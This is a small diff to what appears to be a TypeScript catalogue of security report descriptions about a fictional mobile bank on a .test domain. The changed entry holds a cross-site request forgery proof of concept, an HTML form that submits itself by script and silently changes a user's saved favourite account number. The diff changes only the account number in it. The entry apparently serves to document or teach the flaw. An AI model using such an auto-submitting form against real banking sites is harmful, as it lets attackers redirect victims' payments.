@@ -44,7 +44,7 @@ export const nusaMobileOther: ReportDescription[] = [
       'Formulir terkirim sendiri dan nomor rekening favorit berganti tanpa pertanyaan.',
     ],
     code: `<form action="https://m.nusabank.test/favorit/3/ubah" method="post">
-  <input name="rekening" value="8801229999"><input name="nama" value="Ibu">
+  <input name="rekening" value="8800000001"><input name="nama" value="Ibu">
 </form>
 <script>document.forms[0].submit()</script>`,
     impact:
